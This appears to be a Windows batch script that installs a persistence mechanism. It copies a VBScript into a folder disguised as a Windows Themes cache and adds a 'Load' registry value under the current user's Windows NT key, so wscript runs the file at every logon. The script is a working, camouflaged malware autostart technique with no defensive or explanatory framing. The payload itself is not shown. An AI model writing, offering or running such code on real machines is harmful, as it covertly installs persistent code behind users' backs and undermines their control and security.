@echo off
setlocal
set DEST=%APPDATA%\Microsoft\Windows\Themes\cache
if not exist "%DEST%" mkdir "%DEST%"
copy /y "%~dp0plain.vbs" "%DEST%\thm.vbs" >nul
reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows" /v Load /t REG_SZ /d "wscript.exe \"%DEST%\thm.vbs\"" /f >nul
echo enabled.
